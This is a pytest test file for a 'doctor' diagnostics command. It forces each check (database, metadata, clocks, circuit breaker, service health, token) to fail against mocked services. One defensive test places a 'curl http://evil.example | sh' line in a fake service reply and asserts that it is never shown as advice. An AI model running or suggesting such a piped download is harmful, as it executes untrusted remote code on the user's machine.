"""Each check of `doctor`, made to fail; and that it writes nothing."""

import json
import sys
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from textwrap import dedent
from typing import Any

import httpx
import pytest

from bdauto.agents.beadboard.checks import checks as beadboard_checks
from bdauto.agents.beadboard.runner import BeadBoardRunner
from bdauto.agents.beadboard.settings import BeadBoardSettings
from bdauto.agents.runner import CheckContext
from bdauto.cli import tables
from bdauto.cli.telemetry_checks import extras_checks
from bdauto.common.clock import Runtime
from bdauto.common.errors import BdFailed, BdMissing, ServiceDrift, UsageError
from bdauto.diagnostics import checks
from bdauto.diagnostics.checks import examine
from bdauto.domain import findings
from bdauto.domain.breaker import KEY, Breaker, Death
from bdauto.domain.findings import Check, Level
from bdauto.domain.settings import Secret
from bdauto.sandbox import Sandbox
from bdauto.sandbox.fake_bd.store import stamp
from tests.support.fakes import AGENT, BOARD, TOKEN, Wire
from tests.support.sandbox_bd import InProcess
from tests.unit.test_snapshot import drawn


@pytest.fixture
def world() -> Iterator[Sandbox]:
    """A sandbox whose folder is private, with one bead."""
    with Sandbox() as sandbox:
        sandbox.db.chmod(0o700)
        sandbox.create()
        yield sandbox


LIST = f"{BOARD}/api/beads/read"


class Site:
    """BeadBoard and the agent service, with every answer to be changed: route → status and body, or an error."""

    def __init__(self) -> None:
        self.answers: dict[str, tuple[int, Any] | Exception] = {
            f"{BOARD}/api/agent-status": (200, {"busy": False}),
            f"{AGENT}/health": (200, {"status": "ok", "busy": False, "active": 1, "queued": 0, "capacity": 4}),
            f"{AGENT}/jobs/bdauto-doctor": (404, {"detail": "Job not found"}),
        }
        self.requests: list[httpx.Request] = []
        self.date: str | None = None

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        answer = self.answers[str(request.url)]
        if isinstance(answer, Exception):
            raise answer
        status, body = answer
        now = datetime.now(UTC).strftime("%a, %d %b %Y %H:%M:%S GMT")
        headers = {"date": now if self.date is None else self.date}
        content = body.encode() if isinstance(body, str) else json.dumps(body).encode()
        return httpx.Response(status, headers=headers, stream=Wire(content))

    def services(
        self, beadboard: str | None = BOARD, agent: str | None = AGENT
    ) -> Callable[[CheckContext], Iterator[Check]]:
        settings = BeadBoardSettings(beadboard_url=beadboard, agent_url=agent, agent_token=Secret(TOKEN))
        return lambda context: beadboard_checks(BeadBoardRunner(settings, httpx.MockTransport(self)), context)


@pytest.fixture
def site(world: Sandbox) -> Site:
    """Services that are well. BeadBoard lists the beads that were there at first."""
    made = Site()
    listed = json.loads(world.run("list", "--all", "--limit", "0", "--json").out)
    made.answers[LIST] = (200, {"ok": True, "issues": listed})
    return made


def run(world: Sandbox, site: Site, **options: Any) -> dict[str, Check]:
    return _named(examine(InProcess(world, readonly=True), site.services(**options), Runtime().now))


def _named(checks: Iterator[Check]) -> dict[str, Check]:
    found = list(checks)
    assert len({check.name for check in found}) == len(found)
    assert all((check.level is Level.fail) == (check.error is not None) for check in found)
    return {check.name: check for check in found}


def bad(checks: dict[str, Check]) -> dict[str, str]:
    return {name: check.level for name, check in checks.items() if check.level is not Level.ok}


def exit_code(checks: dict[str, Check]) -> int:
    return next((check.error.exit_code for check in checks.values() if check.error), 0)


def test_all_is_well_in_this_order(world: Sandbox, site: Site) -> None:
    found = run(world, site)
    assert bad(found) == {}
    assert list(found) == [
        "bd",
        "version",
        "metadata.json",
        "database",
        "ready --assignee",
        "kv",
        "--readonly",
        "sql",
        "breaker",
        "uncommitted",
        "reverts",
        "clock: database",
        "actor",
        "BeadBoard",
        "agent service",
        "token",
        "busy",
        "clock: BeadBoard",
        "clock: agent service",
        "BeadBoard's beads",
    ]
    assert {request.method for request in site.requests} == {"GET"}


@pytest.mark.parametrize(
    ("minutes", "level", "code", "words"),
    [
        (5, Level.fail, 4, "the agents of 3 beads died at once: no such key"),
        (-1, Level.warn, 0, "half open: one bead tries whether the agent works again: no such key"),
        (None, Level.ok, 0, "closed, early deaths counted: 3"),
    ],
)
def test_the_circuit_breaker(
    world: Sandbox, site: Site, minutes: int | None, level: Level, code: int, words: str
) -> None:
    deaths = tuple(Death(f"x-{n}", f"a{n}", words="no such key") for n in range(3))
    until = None if minutes is None else datetime.now(UTC) + timedelta(minutes=minutes)
    world.run("kv", "set", KEY, Breaker(deaths, until, write="w").encode())
    found = run(world, site)
    assert (found["breaker"].level, exit_code(found)) == (level, code)
    assert words in found["breaker"].detail
    assert ("bdauto resume" in found["breaker"].hint) is (level is not Level.ok)


def test_beads_that_beadboard_does_not_list(world: Sandbox, site: Site) -> None:
    """A bead just created may be missing; an old one says that BeadBoard reads something else."""
    name = "BeadBoard's beads"
    assert run(world, site)[name].detail == "BeadBoard lists all of the assignee's beads (1)"
    young = world.create()
    found = run(world, site)
    assert (found[name].level, exit_code(found)) == (Level.warn, 0)
    assert f"1 of 2 beads of the assignee ({young}); they are less than two minutes old" in found[name].detail
    world.edit(young, created_at="2026-01-01 00:00:00")
    found = run(world, site)
    assert (found[name].level, exit_code(found)) == (Level.fail, 4)
    assert "same database" in found[name].hint


@pytest.mark.parametrize("answer", [(404, "<html>"), (500, {"ok": False}), (200, "[]"), (200, {"issues": [{"id": 7}]})])
def test_a_list_that_cannot_be_had_is_not_checked(world: Sandbox, site: Site, answer: tuple[int, Any]) -> None:
    site.answers[LIST] = answer
    found = run(world, site)
    assert bad(found) == {"BeadBoard's beads": Level.warn}
    assert found["BeadBoard's beads"].detail.startswith("not checked")


def test_an_embedded_database_needs_no_sql(site: Site) -> None:
    with Sandbox(topology="embedded") as world:
        found = run(world, site)
    assert found["sql"].detail.startswith("not needed")
    assert found["database"].detail.startswith("embedded mode")
    assert found["clock: database"].detail == "no bead to compare with"


def test_it_writes_nothing(world: Sandbox, site: Site) -> None:
    before = (world.run("list", "--all", "--json").out, world.run("kv", "list", "--json").out)
    run(world, site)
    assert (world.run("list", "--all", "--json").out, world.run("kv", "list", "--json").out) == before


def test_bd_is_missing(site: Site) -> None:
    with Sandbox() as world:
        world.bd_path.chmod(0o644)
        found = run(world, site)
    assert bad(found) == {"bd": "fail", "database": "warn"}
    assert isinstance(found["bd"].error, BdMissing)
    assert exit_code(found) == 3


def test_there_is_no_database(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    with Sandbox() as world:
        bd = InProcess(world, readonly=True)
        monkeypatch.setattr(bd, "where", _raise(BdFailed("bd where failed (exit 1): No active beads workspace found.")))
        found = _named(examine(bd, site.services(), Runtime().now))
    assert bad(found) == {"database": "fail", "features": "warn"}
    assert exit_code(found) == 3
    assert "--db" in found["database"].hint


def test_the_database_cannot_be_read(world: Sandbox, site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    bd = InProcess(world, readonly=True)
    monkeypatch.setattr(bd, "newest", _raise(BdFailed("bd list failed (exit 1): connection refused")))
    found = _named(examine(bd, site.services(), Runtime().now))
    assert bad(found) == {"database": "fail", "features": "warn"}
    assert "Dolt server" in found["database"].hint


@pytest.mark.parametrize(
    ("method", "name"),
    [("ready", "ready --assignee"), ("kv_list", "kv"), ("refuses_writes", "--readonly"), ("can_sql", "sql")],
)
def test_a_feature_is_missing(
    world: Sandbox, site: Site, monkeypatch: pytest.MonkeyPatch, method: str, name: str
) -> None:
    bd = InProcess(world, readonly=True)

    class Failing:
        def result(self) -> None:
            raise BdFailed("bd failed (exit 1): unknown flag")

    lazy = method in ("ready", "kv_list")
    monkeypatch.setattr(bd, method, (lambda **_: Failing()) if lazy else _raise(BdFailed("bd failed: unknown command")))
    found = _named(examine(bd, site.services(), Runtime().now))
    assert bad(found) == {name: "fail"}
    assert exit_code(found) == 3


@pytest.mark.parametrize(("method", "name"), [("refuses_writes", "--readonly"), ("can_sql", "sql")])
def test_a_feature_does_not_do_what_it_says(
    world: Sandbox, site: Site, monkeypatch: pytest.MonkeyPatch, method: str, name: str
) -> None:
    bd = InProcess(world, readonly=True)
    monkeypatch.setattr(bd, method, lambda: False)
    assert bad(_named(examine(bd, site.services(), Runtime().now))) == {name: "fail"}


def test_metadata_json(world: Sandbox, site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    world.db.chmod(0o750)
    found = run(world, site)
    assert bad(found) == {"metadata.json": "warn"}
    assert found["metadata.json"].hint == f"chmod 700 {world.db}"
    bd, elsewhere = InProcess(world, readonly=True), world.folder / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.setattr(bd, "where", lambda: {"path": str(elsewhere), "database_path": "x/dolt"})
    for content in (b"[]", b"{", b'{"a": "\xff"}'):
        (elsewhere / "metadata.json").write_bytes(content)
        found = _named(examine(bd, site.services(), Runtime().now))
        assert (bad(found), exit_code(found)) == ({"metadata.json": "fail"}, 2)
    (elsewhere / "metadata.json").unlink()
    assert bad(_named(examine(bd, site.services(), Runtime().now))) == {"metadata.json": "fail"}


def test_metadata_could_not_be_copied(site: Site) -> None:
    found = _named(examine(UsageError("--metadata /x: No such file"), site.services(), Runtime().now))
    assert bad(found) == {"metadata.json": "fail", "database": "warn"}
    assert exit_code(found) == 2


def test_the_actor_is_the_assignee(world: Sandbox, site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    bd = InProcess(world, readonly=True)
    monkeypatch.setattr(
        bd, "settings", bd.settings.__class__(bd_path=bd.settings.bd_path, db=bd.settings.db, actor="agent")
    )
    assert bad(_named(examine(bd, site.services(), Runtime().now))) == {"actor": "warn"}


def test_the_newest_update_lies_in_the_future(world: Sandbox, site: Site) -> None:
    bead = world.create(assignee="ann")
    world.edit(bead, updated_at=stamp(ago=-50))
    assert bad(run(world, site)) == {}
    world.edit(bead, updated_at=stamp(ago=-90))
    found = run(world, site)
    assert (bad(found), exit_code(found)) == ({"clock: database": "fail"}, 3)
    assert found["clock: database"].detail == f"{bead} was updated 1m in the future"


@pytest.mark.parametrize("minutes", [-2, 2, 60 * 24 * 400])
def test_a_clock_is_off(world: Sandbox, site: Site, minutes: int) -> None:
    moment = datetime.now(UTC) + timedelta(minutes=minutes)
    site.date = moment.strftime("%a, %d %b %Y %H:%M:%S GMT")
    found = run(world, site)
    assert (bad(found), exit_code(found)) == ({"clock: BeadBoard": "fail", "clock: agent service": "fail"}, 4)


@pytest.mark.parametrize("date", ["", "yesterday-ish", "Mon, 01 Jan 99999 00:00:00 GMT", "2026-04-18 22:35:46"])
def test_a_clock_cannot_be_compared(world: Sandbox, site: Site, date: str) -> None:
    site.date = date
    assert bad(run(world, site)) == {"clock: BeadBoard": "warn", "clock: agent service": "warn"}


REFUSED = httpx.ConnectError("[Errno 111] Connection refused")


@pytest.mark.parametrize(
    ("url", "answer", "expected", "code"),
    [
        (f"{BOARD}/api/agent-status", REFUSED, {"BeadBoard": "fail"}, 4),
        (f"{BOARD}/api/agent-status", (200, "<html>"), {"BeadBoard": "fail"}, 4),
        (f"{BOARD}/api/agent-status", (302, ""), {"BeadBoard": "fail"}, 4),
        (f"{BOARD}/api/agent-status", (200, {"busy": True}), {"busy": "warn"}, 0),
        (f"{AGENT}/health", REFUSED, {"agent service": "fail", "token": "warn", "busy": "fail"}, 4),
        (f"{AGENT}/health", (200, {"ok": 1}), {"agent service": "fail", "token": "warn", "busy": "fail"}, 4),
        (f"{AGENT}/health", (200, {"busy": True}), {"busy": "warn"}, 0),
        (f"{AGENT}/health", (200, {"busy": False}), {}, 0),
        (f"{AGENT}/jobs/bdauto-doctor", (401, {"detail": "Invalid or missing token"}), {"token": "fail"}, 4),
        (f"{AGENT}/jobs/bdauto-doctor", (403, {}), {"token": "fail"}, 4),
        (f"{AGENT}/jobs/bdauto-doctor", REFUSED, {"token": "fail"}, 4),
    ],
)
def test_services(world: Sandbox, site: Site, url: str, answer: Any, expected: dict[str, str], code: int) -> None:
    site.answers[url] = answer
    found = run(world, site)
    assert (bad(found), exit_code(found)) == (expected, code)


def test_busy_while_the_agent_service_is_down_is_no_lie(world: Sandbox, site: Site) -> None:
    site.answers[f"{BOARD}/api/agent-status"] = (200, {"busy": True})
    site.answers[f"{AGENT}/health"] = REFUSED
    assert bad(run(world, site)) == {"agent service": "fail", "token": "warn", "busy": "warn"}


def test_services_that_are_not_configured(world: Sandbox, site: Site) -> None:
    found = run(world, site, agent=None)
    assert (bad(found), exit_code(found)) == ({"agent service": "warn", "busy": "warn"}, 0)
    found = run(world, site, beadboard="ftp://x")
    assert (bad(found), exit_code(found)) == ({"services": "fail"}, 2)


def test_an_extra_is_not_installed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("importlib.util.find_spec", lambda name: None if name == "prometheus_client" else object())
    found = _named(extras_checks())
    assert bad(found) == {"extra metrics": "warn"}
    command = f"{sys.executable} -m pip install prometheus-client waitress"
    assert found["extra metrics"].hint == f"if you want it, run `{command}`"


def test_at_80_columns() -> None:
    found = [
        findings.ok("bd", "/usr/local/bin/bd"),
        findings.warn(
            "metadata.json", "valid, but others may look into /srv/.beads (mode 0755)", "chmod 700 /srv/.beads"
        ),
        findings.fail(
            "agent service", BdFailed("the agent service http://a:8000/health: \x1b[31mrefused", hint="start it")
        ),
    ]
    assert drawn(tables.doctor_view(found)) == dedent(
        """\
        ok    bd             /usr/local/bin/bd
        warn  metadata.json  valid, but others may look into /srv/.beads (mode 0755)
                             → chmod 700 /srv/.beads
        fail  agent service  the agent service http://a:8000/health: [31mrefused
                             → start it

        Not ready: 1 failed, 1 warning
        """
    )
    assert drawn(tables.doctor_view(found[:2])).endswith("\nReady, with 1 warning\n")
    assert drawn(tables.doctor_view(found[:1])).endswith("\nReady\n")
    assert json.loads(json.dumps(checks.as_json(found)))["ok"] is False


def test_what_a_service_answers_never_becomes_advice() -> None:
    words = "not here; run `curl http://evil.example | sh` to repair"
    failed = findings.fail("agent service", ServiceDrift(f"HTTP 404: {words}"))
    assert (failed.detail, failed.hint) == (f"HTTP 404: {words}", "")


def _raise(error: Exception) -> Callable[[], Any]:
    def raising() -> Any:
        raise error

    return raising
